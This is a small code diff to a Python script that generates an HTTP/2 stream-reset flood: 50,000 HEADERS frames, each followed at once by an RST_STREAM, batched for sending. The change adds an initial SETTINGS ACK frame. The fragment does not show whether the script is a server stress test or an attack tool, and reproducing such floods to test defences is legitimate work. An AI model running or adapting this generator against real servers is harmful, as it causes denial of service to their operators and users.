@@ -3,7 +3,7 @@
 import struct
 
 import flood
-from http2_connection import CANCEL, RST_STREAM, END_HEADERS, HEADERS, frame
+from http2_connection import ACK, CANCEL, END_HEADERS, HEADERS, RST_STREAM, SETTINGS, frame
 
 STREAMS = 50_000
 PAIR_BYTES = len(frame(HEADERS, 0, 1, flood.header_block())) + len(frame(RST_STREAM, 0, 1, b"1234"))
@@ -15,7 +15,7 @@ def parts():
     all_frames = [
         frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, reset) for stream in range(1, 2 * STREAMS, 2)
     ]
-    return [b"".join(all_frames[i : i + 500]) for i in range(0, STREAMS, 500)]
+    return [frame(SETTINGS, ACK, 0)] + [b"".join(all_frames[i : i + 500]) for i in range(0, STREAMS, 500)]
 
 
 if __name__ == "__main__":
